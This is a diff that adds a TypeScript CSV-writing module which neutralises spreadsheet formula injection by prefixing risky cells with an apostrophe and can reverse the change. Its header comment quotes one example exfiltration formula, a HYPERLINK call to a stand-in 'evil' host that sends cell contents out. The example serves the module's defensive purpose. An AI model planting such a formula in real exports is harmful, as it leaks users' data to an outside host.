@@ -1,0 +1,37 @@
+/**
+ * CSV cells that are safe to open in a spreadsheet. Excel, LibreOffice and Google Sheets run a cell
+ * that starts with = + - @ (and, after a tab or carriage return, whatever follows) as a formula:
+ * `=HYPERLINK("http://evil/?"&A1,"open")` in a customer name ships data out the moment someone
+ * opens an export. Such a cell gets a leading apostrophe, which spreadsheets show as text.
+ *
+ * The change is reversible (restoreCell): a value that already starts with apostrophes followed
+ * by a formula character gets one more, so stripping one apostrophe from any cell that starts with
+ * apostrophes and a formula character gives back exactly the original. Plain numbers (-5, +3.2,
+ * 1e-3) are not formulas and stay as they are, so numeric columns keep working.
+ *
+ * Pure, no dependencies: ingest's rejects file uses it, and any other CSV writer can.
+ */
+
+const FORMULA_START = /^'*[=+\-@\t\r]/;
+const NEUTRALISED = /^'+[=+\-@\t\r]/;
+const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
+
+/** The value as text a spreadsheet will not evaluate. */
+export function neutraliseFormula(value: string): string {
+  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
+}
+
+/** The inverse of neutraliseFormula: the value as it was before. */
+export function restoreCell(value: string): string {
+  return NEUTRALISED.test(value) ? value.slice(1) : value;
+}
+
+/** One CSV field (RFC 4180 quoting), neutralised. null and undefined are empty. */
+export function csvCell(value: string | number | bigint | boolean | null | undefined): string {
+  if (value === null || value === undefined) return '';
+  const s = neutraliseFormula(String(value));
+  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
+}
+
+/** One CSV record, without the line break. */
+export const csvRow = (values: readonly (string | number | bigint | boolean | null | undefined)[]): string => values.map(csvCell).join(',');
